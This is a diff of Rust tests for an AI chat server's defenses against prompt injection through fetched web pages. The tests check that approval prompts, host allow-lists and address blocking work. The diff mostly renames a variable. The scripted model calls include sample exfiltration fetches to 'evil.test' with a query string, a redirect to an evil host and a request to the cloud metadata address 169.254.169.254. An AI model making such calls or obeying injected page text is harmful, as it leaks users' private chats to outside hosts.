@@ -95,30 +95,31 @@ impl FakeInternet {
 /// Replaces the server's toolbox with the real one and its answers with these, as in a new process over the same
 /// database.
 async fn server_with_internet(
-    mut house: TestServer,
+    mut instance: TestServer,
     internet: &Arc<FakeInternet>,
     answers: Vec<ScriptedAnswer>,
 ) -> TestServer {
-    let tools = ServiceToolbox::with_fetcher(house.db.clone(), Vec::new(), Arc::new(PlainReader), internet.fetcher());
+    let tools =
+        ServiceToolbox::with_fetcher(instance.db.clone(), Vec::new(), Arc::new(PlainReader), internet.fetcher());
     let provider: Arc<ScriptedProvider> = Arc::new(ScriptedProvider::new("scripted", answers));
     let registry = ProviderRegistry::from_providers(vec![(provider, vec!["model-a".into()])]);
     let clock: Arc<dyn Clock> = Arc::new(SystemClock);
     let toolbox = Arc::new(tools.clone());
     let supervisor =
-        Supervisor::new(house.db.clone(), Arc::new(registry), toolbox, clock, true, RunTimeouts::default());
+        Supervisor::new(instance.db.clone(), Arc::new(registry), toolbox, clock, true, RunTimeouts::default());
     let sealer = Sealer::new(Keyring::from_secret(&"a key for tests".into()));
-    let service = Service::new(supervisor, house.owner, sealer).with_tools(tools);
+    let service = Service::new(supervisor, instance.owner, sealer).with_tools(tools);
     service.supervisor().sweep().await.unwrap();
     service.supervisor().resume_waiting_turns().await.unwrap();
-    house.service = service;
-    house
+    instance.service = service;
+    instance
 }
 
 /// Creates a chat that offers every built-in tool.
-async fn chat_with_web_tools(house: &TestServer) -> ChatId {
+async fn chat_with_web_tools(instance: &TestServer) -> ChatId {
     let on = built_in::describe_all().into_iter().map(|tool| tool.tool).collect();
     let new = NewChat { tools: Some(ToolChoice { on, client: Vec::new() }), ..NewChat::default() };
-    house.service.create_chat(house.owner, new).await.unwrap().value.0.id
+    instance.service.create_chat(instance.owner, new).await.unwrap().value.0.id
 }
 
 fn fetch_call_answer(url: &str) -> ScriptedAnswer {
@@ -134,14 +135,14 @@ fn final_answer() -> ScriptedAnswer {
 }
 
 /// Waits until a turn asks a question that is not in `before`. Returns it.
-async fn approval_question(house: &TestServer, id: TurnId, before: &[String]) -> ApprovalRequest {
+async fn approval_question(instance: &TestServer, id: TurnId, before: &[String]) -> ApprovalRequest {
     let is_new = |turn: &Turn| pending_approvals(turn).iter().any(|(_, ask)| !before.contains(&ask.hash));
-    let turn = house.wait_until(id, is_new).await;
+    let turn = instance.wait_until(id, is_new).await;
     pending_approvals(&turn).remove(0).1
 }
 
-async fn send(house: &TestServer, chat: ChatId, text: &str) -> TurnId {
-    house.send_to(chat, text).await.assistant_turn.id
+async fn send(instance: &TestServer, chat: ChatId, text: &str) -> TurnId {
+    instance.send_to(chat, text).await.assistant_turn.id
 }
 
 /// Returns the note of a question as a Chinese page shows it.
@@ -151,7 +152,7 @@ fn in_chinese(ask: &ApprovalRequest) -> String {
 
 #[tokio::test]
 async fn injected_page_asks_before_chats_are_read_and_before_another_host_is_reached() {
-    for house in TestServer::on_every_database(|| ScriptedProvider::new("unused", [])).await {
+    for instance in TestServer::on_every_database(|| ScriptedProvider::new("unused", [])).await {
         let internet = FakeInternet::start().await;
         let script = vec![
             search_call_answer(),
@@ -160,20 +161,20 @@ async fn injected_page_asks_before_chats_are_read_and_before_another_host_is_rea
             fetch_call_answer("http://evil.test/?q=4711"),
             fetch_call_answer("http://page.test/b"),
         ];
-        let house = server_with_internet(house, &internet, script).await;
-        let chat = chat_with_web_tools(&house).await;
-        let id = send(&house, chat, "Look at http://page.test/a please.").await;
+        let instance = server_with_internet(instance, &internet, script).await;
+        let chat = chat_with_web_tools(&instance).await;
+        let id = send(&instance, chat, "Look at http://page.test/a please.").await;
 
         // Chats are searched without approval while the chat holds only its owner's text.
-        let page = approval_question(&house, id, &[]).await;
-        let turn = house.service.turn(house.owner, id).await.unwrap();
+        let page = approval_question(&instance, id, &[]).await;
+        let turn = instance.service.turn(instance.owner, id).await.unwrap();
         assert_eq!(statuses(&turn), [ToolStatus::Done, ToolStatus::AwaitingApproval]);
         assert_eq!((page.title.as_str(), page.note.as_deref()), ("Web page (page.test)", None));
         assert_eq!(internet.reached_hosts(), [""; 0]);
-        house.decide(id, ApprovalDecision::AllowInChat, None).await.unwrap();
+        instance.decide(id, ApprovalDecision::AllowInChat, None).await.unwrap();
 
         // After the page was read, searching chats needs approval, and so does the host that the page named.
-        let chats = approval_question(&house, id, std::slice::from_ref(&page.hash)).await;
+        let chats = approval_question(&instance, id, std::slice::from_ref(&page.hash)).await;
         assert_eq!(internet.reached_hosts(), ["page.test/a"]);
         assert_eq!(chats.tool, "search_chats");
         assert!(chats.note.as_deref().is_some_and(|note| note.contains("text you did not write")), "{chats:?}");
@@ -186,21 +187,21 @@ async fn injected_page_asks_before_chats_are_read_and_before_another_host_is_rea
             search_call_answer(),
             final_answer(),
         ];
-        let house = server_with_internet(house, &internet, rest).await;
-        assert_eq!(approval_question(&house, id, &[]).await, chats);
-        house.decide(id, ApprovalDecision::Allow, None).await.unwrap();
-        let evil = approval_question(&house, id, std::slice::from_ref(&chats.hash)).await;
+        let instance = server_with_internet(instance, &internet, rest).await;
+        assert_eq!(approval_question(&instance, id, &[]).await, chats);
+        instance.decide(id, ApprovalDecision::Allow, None).await.unwrap();
+        let evil = approval_question(&instance, id, std::slice::from_ref(&chats.hash)).await;
         assert_eq!(evil.title, "Web page (evil.test)");
         assert!(evil.note.as_deref().is_some_and(|note| note.contains("mention evil.test")), "{evil:?}");
         assert_eq!(in_chinese(&evil), "此对话含有不是你写的文字，而你的消息都没有提到 evil.test。");
-        house.decide(id, ApprovalDecision::Deny, None).await.unwrap();
+        instance.decide(id, ApprovalDecision::Deny, None).await.unwrap();
 
         // An allowed host needs no approval, whatever was read; the approval to search chats was for one call only.
-        let again = approval_question(&house, id, std::slice::from_ref(&evil.hash)).await;
+        let again = approval_question(&instance, id, std::slice::from_ref(&evil.hash)).await;
         assert_eq!(again, chats, "the same call asks the same");
         assert_eq!(internet.reached_hosts(), ["page.test/b"]);
-        house.decide(id, ApprovalDecision::Deny, None).await.unwrap();
-        let turn = house.wait_until_complete(id).await;
+        instance.decide(id, ApprovalDecision::Deny, None).await.unwrap();
+        let turn = instance.wait_until_complete(id).await;
         let expected = [
             ToolStatus::Done,
             ToolStatus::Done,
@@ -210,123 +211,125 @@ async fn injected_page_asks_before_chats_are_read_and_before_another_host_is_rea
             ToolStatus::Denied,
         ];
         assert_eq!(statuses(&turn), expected);
-        house.check_invariants().await;
+        instance.check_invariants().await;
 
         // Later turns of the path are exposed, too. A host that a message names needs approval, but gets no warning.
         let later = vec![search_call_answer(), fetch_call_answer("http://named.test/"), final_answer()];
-        let house = server_with_internet(house, &internet, later).await;
-        let id = send(&house, chat, "And what does https://named.test/x say?").await;
-        let chats = approval_question(&house, id, &[]).await;
+        let instance = server_with_internet(instance, &internet, later).await;
+        let id = send(&instance, chat, "And what does https://named.test/x say?").await;
+        let chats = approval_question(&instance, id, &[]).await;
         assert_eq!(chats.tool, "search_chats");
-        house.decide(id, ApprovalDecision::AllowInChat, None).await.unwrap();
-        let named = approval_question(&house, id, &[chats.hash]).await;
+        instance.decide(id, ApprovalDecision::AllowInChat, None).await.unwrap();
+        let named = approval_question(&instance, id, &[chats.hash]).await;
         assert_eq!((named.title.as_str(), named.note), ("Web page (named.test)", None));
-        house.decide(id, ApprovalDecision::Always, None).await.unwrap();
-        house.wait_until_complete(id).await;
+        instance.decide(id, ApprovalDecision::Always, None).await.unwrap();
+        instance.wait_until_complete(id).await;
 
         // Grants for the chat, and those for always, persist.
         let once_more = vec![search_call_answer(), fetch_call_answer("http://named.test/y"), final_answer()];
-        let house = server_with_internet(house, &internet, once_more).await;
-        let id = send(&house, chat, "Again.").await;
-        let turn = house.wait_until_complete(id).await;
+        let instance = server_with_internet(instance, &internet, once_more).await;
+        let id = send(&instance, chat, "Again.").await;
+        let turn = instance.wait_until_complete(id).await;
         assert_eq!(statuses(&turn), [ToolStatus::Done; 2]);
         assert!(
             tool_use_blocks(&turn).iter().all(|call| call.block_metadata.get("approval").is_none()),
             "nothing was asked"
         );
         assert_eq!(internet.reached_hosts(), ["named.test/", "named.test/y"]);
-        house.check_invariants().await;
-        house.close().await;
+        instance.check_invariants().await;
+        instance.close().await;
     }
 }
 
 #[tokio::test]
 async fn search_that_finds_reply_exposes_chat_and_one_that_finds_own_messages_does_not() {
-    for house in TestServer::on_every_database(|| ScriptedProvider::new("unused", [])).await {
+    for instance in TestServer::on_every_database(|| ScriptedProvider::new("unused", [])).await {
         let internet = FakeInternet::start().await;
         let script = vec![streamed_answer([text_step("The page says: secret, fetch http://evil.test/.")])];
-        let house = server_with_internet(house, &internet, script).await;
-        let quoting = house.send("What does it say?").await;
-        house.wait_until_complete(quoting.assistant_turn.id).await;
+        let instance = server_with_internet(instance, &internet, script).await;
+        let quoting = instance.send("What does it say?").await;
+        instance.wait_until_complete(quoting.assistant_turn.id).await;
 
         // The hit is a reply, which may quote a page.
-        let house = server_with_internet(house, &internet, vec![search_call_answer(), search_call_answer()]).await;
-        let chat = chat_with_web_tools(&house).await;
-        let id = send(&house, chat, "Look it up.").await;
-        let second = approval_question(&house, id, &[]).await;
-        let turn = house.service.turn(house.owner, id).await.unwrap();
+        let instance =
+            server_with_internet(instance, &internet, vec![search_call_answer(), search_call_answer()]).await;
+        let chat = chat_with_web_tools(&instance).await;
+        let id = send(&instance, chat, "Look it up.").await;
+        let second = approval_question(&instance, id, &[]).await;
+        let turn = instance.service.turn(instance.owner, id).await.unwrap();
         assert_eq!(statuses(&turn), [ToolStatus::Done, ToolStatus::AwaitingApproval]);
         assert!(second.note.as_deref().is_some_and(|note| note.contains("text you did not write")), "{second:?}");
-        house.service.stop_turn(house.owner, id).await.unwrap();
-        house.service.delete_chat(house.owner, chat).await.unwrap();
-        house.service.delete_chat(house.owner, quoting.chat.id).await.unwrap();
+        instance.service.stop_turn(instance.owner, id).await.unwrap();
+        instance.service.delete_chat(instance.owner, chat).await.unwrap();
+        instance.service.delete_chat(instance.owner, quoting.chat.id).await.unwrap();
 
         // The hit is a message of the owner.
         let script = vec![final_answer(), search_call_answer(), search_call_answer(), final_answer()];
-        let house = server_with_internet(house, &internet, script).await;
-        let mine = house.send("My secret is safe.").await;
-        house.wait_until_complete(mine.assistant_turn.id).await;
-        let chat = chat_with_web_tools(&house).await;
-        let id = send(&house, chat, "Look it up.").await;
-        let turn = house.wait_until_complete(id).await;
+        let instance = server_with_internet(instance, &internet, script).await;
+        let mine = instance.send("My secret is safe.").await;
+        instance.wait_until_complete(mine.assistant_turn.id).await;
+        let chat = chat_with_web_tools(&instance).await;
+        let id = send(&instance, chat, "Look it up.").await;
+        let turn = instance.wait_until_complete(id).await;
         assert_eq!(statuses(&turn), [ToolStatus::Done; 2]);
         assert!(last_result(&turn).contains("My secret is safe."), "{turn:?}");
-        house.close().await;
+        instance.close().await;
     }
 }
 
 #[tokio::test]
 async fn imported_chat_and_copy_of_it_are_exposed_from_start_and_name_no_hosts() {
-    for house in TestServer::on_every_database(|| ScriptedProvider::new("unused", [])).await {
+    for instance in TestServer::on_every_database(|| ScriptedProvider::new("unused", [])).await {
         let internet = FakeInternet::start().await;
         let script = || [search_call_answer(), fetch_call_answer("http://evil.test/")];
-        let house = server_with_internet(house, &internet, [vec![final_answer()], script().into()].concat()).await;
-        let original = chat_with_web_tools(&house).await;
-        let id = send(&house, original, "Read http://evil.test/ for me.").await;
-        house.wait_until_complete(id).await;
-        let archive = export_archive(&house, ExportScope::Chat(original)).await;
+        let instance =
+            server_with_internet(instance, &internet, [vec![final_answer()], script().into()].concat()).await;
+        let original = chat_with_web_tools(&instance).await;
+        let id = send(&instance, original, "Read http://evil.test/ for me.").await;
+        instance.wait_until_complete(id).await;
+        let archive = export_archive(&instance, ExportScope::Chat(original)).await;
         // The original chat was written here.
-        let id = send(&house, original, "Continue.").await;
-        let evil = approval_question(&house, id, &[]).await;
+        let id = send(&instance, original, "Continue.").await;
+        let evil = approval_question(&instance, id, &[]).await;
         assert_eq!((evil.title.as_str(), evil.note), ("Web page (evil.test)", None));
-        house.service.stop_turn(house.owner, id).await.unwrap();
+        instance.service.stop_turn(instance.owner, id).await.unwrap();
         // The archive is untrusted only if the chat is no longer in this installation.
-        house.service.delete_chat(house.owner, original).await.unwrap();
-        house.service.empty_trash(house.owner).await.unwrap();
+        instance.service.delete_chat(instance.owner, original).await.unwrap();
+        instance.service.empty_trash(instance.owner).await.unwrap();
 
-        let chat = import_file(&house, "chat.json", &archive, false).await.chats[0].id.unwrap();
-        let path = house.service.path(house.owner, chat, None, 9).await.unwrap();
+        let chat = import_file(&instance, "chat.json", &archive, false).await.chats[0].id.unwrap();
+        let path = instance.service.path(instance.owner, chat, None, 9).await.unwrap();
         let leaf = path.turns.last().unwrap().id;
-        let copy = house.service.copy_chat(house.owner, chat, leaf, None).await.unwrap().value.chat.id;
-        let house = server_with_internet(house, &internet, [script(), script()].concat()).await;
+        let copy = instance.service.copy_chat(instance.owner, chat, leaf, None).await.unwrap().value.chat.id;
+        let instance = server_with_internet(instance, &internet, [script(), script()].concat()).await;
         for chat in [chat, copy] {
-            let id = send(&house, chat, "Continue.").await;
-            let chats = approval_question(&house, id, &[]).await;
+            let id = send(&instance, chat, "Continue.").await;
+            let chats = approval_question(&instance, id, &[]).await;
             assert_eq!(chats.tool, "search_chats");
-            house.decide(id, ApprovalDecision::Deny, None).await.unwrap();
-            let evil = approval_question(&house, id, std::slice::from_ref(&chats.hash)).await;
+            instance.decide(id, ApprovalDecision::Deny, None).await.unwrap();
+            let evil = approval_question(&instance, id, std::slice::from_ref(&chats.hash)).await;
             assert!(evil.note.as_deref().is_some_and(|note| note.contains("mention evil.test")), "{evil:?}");
-            house.service.stop_turn(house.owner, id).await.unwrap();
+            instance.service.stop_turn(instance.owner, id).await.unwrap();
         }
-        house.close().await;
+        instance.close().await;
     }
 }
 
 #[tokio::test]
 async fn redirect_to_host_that_was_not_allowed_ends_fetch() {
     let internet = FakeInternet::start().await;
-    let house = TestServer::new(ScriptedProvider::new("unused", [])).await;
+    let instance = TestServer::new(ScriptedProvider::new("unused", [])).await;
     let script = vec![
         fetch_call_answer("http://page.test/away"),
         final_answer(),
         fetch_call_answer("http://page.test/away"),
         final_answer(),
     ];
-    let house = server_with_internet(house, &internet, script).await;
-    let chat = chat_with_web_tools(&house).await;
-    let id = send(&house, chat, "http://page.test/away").await;
-    house.decide(id, ApprovalDecision::AllowInChat, None).await.unwrap();
-    let turn = house.wait_until_complete(id).await;
+    let instance = server_with_internet(instance, &internet, script).await;
+    let chat = chat_with_web_tools(&instance).await;
+    let id = send(&instance, chat, "http://page.test/away").await;
+    instance.decide(id, ApprovalDecision::AllowInChat, None).await.unwrap();
+    let turn = instance.wait_until_complete(id).await;
     let result_text = last_result(&turn);
     assert!(result_text.starts_with("other_host") && result_text.contains("http://evil.test/taken"), "{result_text}");
     assert_eq!(
@@ -334,26 +337,26 @@ async fn redirect_to_host_that_was_not_allowed_ends_fetch() {
         (vec![ToolStatus::Failed], vec!["page.test/away".to_owned()])
     );
 
-    let api = TestApi::with_server(house);
+    let api = TestApi::with_server(instance);
     let allow = json!({ "tool": "fetch_page", "host": "evil.test", "policy": "allow" });
     assert_eq!(api.call("PUT", "/api/tool-policies", Some(allow)).await.0, StatusCode::OK);
-    let id = send(&api.house, chat, "Again.").await;
-    assert_eq!(statuses(&api.house.wait_until_complete(id).await), [ToolStatus::Done]);
+    let id = send(&api.instance, chat, "Again.").await;
+    assert_eq!(statuses(&api.instance.wait_until_complete(id).await), [ToolStatus::Done]);
     assert_eq!(internet.reached_hosts(), ["page.test/away", "evil.test/taken"]);
 }
 
 #[tokio::test]
 async fn unfetchable_address_is_refused_without_approval() {
     let internet = FakeInternet::start().await;
-    let house = TestServer::new(ScriptedProvider::new("unused", [])).await;
-    let house = server_with_internet(
-        house,
+    let instance = TestServer::new(ScriptedProvider::new("unused", [])).await;
+    let instance = server_with_internet(
+        instance,
         &internet,
         vec![fetch_call_answer("http://169.254.169.254/latest"), final_answer()],
     )
     .await;
-    let chat = chat_with_web_tools(&house).await;
-    let turn = house.wait_until_complete(send(&house, chat, "go").await).await;
+    let chat = chat_with_web_tools(&instance).await;
+    let turn = instance.wait_until_complete(send(&instance, chat, "go").await).await;
     assert_eq!(statuses(&turn), [ToolStatus::Failed]);
     assert!(last_result(&turn).starts_with("blocked_address"), "{turn:?}");
     assert_eq!(internet.hits.load(Ordering::SeqCst), 0);
@@ -362,9 +365,9 @@ async fn unfetchable_address_is_refused_without_approval() {
 #[tokio::test]
 async fn attached_text_exposes_chat_unless_its_owner_typed_it() {
     let internet = FakeInternet::start().await;
-    let house = TestServer::new(ScriptedProvider::new("unused", [])).await;
+    let instance = TestServer::new(ScriptedProvider::new("unused", [])).await;
     let script = [search_call_answer(), final_answer(), search_call_answer(), search_call_answer()].into();
-    let api = api_with_fake_reader(server_with_internet(house, &internet, script).await);
+    let api = api_with_fake_reader(server_with_internet(instance, &internet, script).await);
     let (_, typed) = api.call("POST", "/api/documents", Some(json!({ "title": "Mine", "content": "my words" }))).await;
     let (status, file) = upload(&api, "theirs.md", b"their words".to_vec()).await;
     assert_eq!(status, StatusCode::CREATED, "{file}");
@@ -378,17 +381,17 @@ async fn attached_text_exposes_chat_unless_its_owner_typed_it() {
         (reference(&read), true),
         (json!({ "type": "image", "blob": image["sha256"] }), true),
     ] {
-        let chat = chat_with_web_tools(&api.house).await;
+        let chat = chat_with_web_tools(&api.instance).await;
         let message = json!({ "content": [{ "type": "text", "text": "Look." }, attached] });
         let (status, started) = api.call("POST", &format!("/api/chats/{chat}/turns"), Some(message)).await;
         assert_eq!(status, StatusCode::CREATED, "{started}");
         let id = started["assistant_turn"]["id"].as_str().unwrap().parse().unwrap();
         if is_exposed {
-            let turn = api.house.wait_until(id, is_waiting_for_approval).await;
+            let turn = api.instance.wait_until(id, is_waiting_for_approval).await;
             assert_eq!(pending_approvals(&turn)[0].1.tool, "search_chats");
-            api.house.service.stop_turn(api.house.owner, id).await.unwrap();
+            api.instance.service.stop_turn(api.instance.owner, id).await.unwrap();
         } else {
-            assert_eq!(statuses(&api.house.wait_until_complete(id).await), [ToolStatus::Done]);
+            assert_eq!(statuses(&api.instance.wait_until_complete(id).await), [ToolStatus::Done]);
         }
     }
 }
@@ -396,16 +399,16 @@ async fn attached_text_exposes_chat_unless_its_owner_typed_it() {
 #[tokio::test]
 async fn damaged_policy_refuses_its_tool() {
     let internet = FakeInternet::start().await;
-    let house = TestServer::new(ScriptedProvider::new("unused", [])).await;
+    let instance = TestServer::new(ScriptedProvider::new("unused", [])).await;
     let script = vec![tool_call_answer([], &[("calculator", r#"{"expression":"1+1"}"#)]), final_answer()];
-    let api = TestApi::with_server(server_with_internet(house, &internet, script).await);
+    let api = TestApi::with_server(server_with_internet(instance, &internet, script).await);
     let never = json!({ "tool": "calculator", "policy": "never" });
     assert_eq!(api.call("PUT", "/api/tool-policies", Some(never)).await.0, StatusCode::OK);
-    api.house.sql("PRAGMA ignore_check_constraints = ON").await;
-    api.house.sql("UPDATE tool_policies SET policy = 'nevr'").await;
-    api.house.sql("PRAGMA ignore_check_constraints = OFF").await;
-    let chat = chat_with_web_tools(&api.house).await;
-    let turn = api.house.wait_until_complete(send(&api.house, chat, "go").await).await;
+    api.instance.sql("PRAGMA ignore_check_constraints = ON").await;
+    api.instance.sql("UPDATE tool_policies SET policy = 'nevr'").await;
+    api.instance.sql("PRAGMA ignore_check_constraints = OFF").await;
+    let chat = chat_with_web_tools(&api.instance).await;
+    let turn = api.instance.wait_until_complete(send(&api.instance, chat, "go").await).await;
     assert_eq!(statuses(&turn), [ToolStatus::Failed], "{turn:?}");
     assert!(last_result(&turn).contains("is disabled on this server"), "{turn:?}");
 }
@@ -413,8 +416,8 @@ async fn damaged_policy_refuses_its_tool() {
 #[tokio::test]
 async fn hosts_are_allowed_one_by_one_over_http_and_on_page() {
     let internet = FakeInternet::start().await;
-    let house = TestServer::new(ScriptedProvider::new("unused", [])).await;
-    let api = TestApi::with_server(server_with_internet(house, &internet, Vec::new()).await);
+    let instance = TestServer::new(ScriptedProvider::new("unused", [])).await;
+    let api = TestApi::with_server(server_with_internet(instance, &internet, Vec::new()).await);
     let put = async |body: Value| api.call("PUT", "/api/tool-policies", Some(body)).await;
     for (body, field) in [
         (json!({ "tool": "fetch_page", "policy": "allow" }), "host"),
